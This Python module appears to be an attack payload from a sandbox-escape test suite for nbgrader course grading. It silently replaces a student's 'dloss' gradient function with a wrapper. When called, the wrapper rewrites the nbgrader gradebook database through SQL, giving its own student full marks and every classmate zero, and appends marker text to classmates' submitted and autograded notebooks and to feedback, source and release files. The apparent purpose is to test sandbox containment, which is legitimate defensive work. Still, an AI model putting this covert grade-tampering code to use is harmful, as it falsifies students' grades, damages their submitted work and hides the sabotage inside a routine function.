"""When called, dloss writes to the nbgrader course: the gradebook (full marks for itself, 0 for everyone else),
the classmates' submitted and autograded notebooks, a feedback/ folder and the source/release notebooks."""
MODULE = "ex1_manual_gradients"
CLASS = "notebook"
MODES = ("nbgrader",)

_ATK_WROTE = []  # an assignment that calls nothing: kept by the notebook channel


def _atk_course_writes():
    """Each write is small and names or holds the marker; the course is the test's own scratch folder."""
    import glob
    course, marker, me = _ATTACK.get("course", ""), _ATTACK["marker"], _ATTACK.get("student", "")
    done = []
    if not course or _ATK_WROTE:
        return _ATK_WROTE
    try:  # the gradebook, through SQL: manual scores override what the grader gave
        import sqlite3
        db = sqlite3.connect(f"file:{course}/gradebook.db?mode=rw", uri=True, timeout=2)
        try:
            mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                    "ON sn.assignment_id = sa.id WHERE sa.student_id {} ?")
            db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                       f"WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN ({mine.format('=')})", (me,))
            db.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id IN ({mine.format('!=')})", (me,))
            db.execute("CREATE TABLE IF NOT EXISTS " + marker + " (x)")
            db.commit()
            done.append("gradebook.db (SQL)")
        finally:
            db.close()
    except Exception:
        pass
    try:  # the gradebook file itself, opened for writing (nothing written)
        fd = _atk_os.open(f"{course}/gradebook.db", _atk_os.O_WRONLY)
        _atk_os.close(fd)
        done.append("gradebook.db (open for writing)")
    except OSError:
        pass
    targets = [f"{course}/feedback/{me}/backprop/{marker}.html", f"{course}/autograded/{marker}.txt",
               f"{course}/source/backprop/{marker}.ipynb", f"{course}/release/backprop/{marker}.ipynb",
               f"{course}/{marker}-planted.txt"]
    for folder in _ATTACK["classmates"]:  # their handed-in notebooks and, once graded, their autograded ones
        targets += glob.glob(folder + "/*.ipynb")[:3]
        targets += glob.glob(folder.replace("/submitted/", "/autograded/") + "/*.ipynb")[:3]
    # Only where the real course is visible: the course lives under /tmp, and a folder made in the
    # sandbox's own private /tmp would be no escape.
    visible = _atk_os.path.isfile(f"{course}/nbgrader_config.py")
    for path in targets[:20] if visible else []:
        try:
            _atk_os.makedirs(_atk_os.path.dirname(path), exist_ok=True)
            with open(path, "a") as handle:
                handle.write(f"\n{marker}\n")
            done.append(path)
        except OSError:
            pass
    _ATK_WROTE[:] = done or ["nothing"]
    return _ATK_WROTE


def _atk_dloss(w, x, y, _orig=dloss):
    wrote = [d for d in _atk_course_writes() if d != "nothing"]
    if wrote:
        _atk_win(f"wrote {wrote}")
    return _orig(w, x, y)


dloss = _atk_dloss
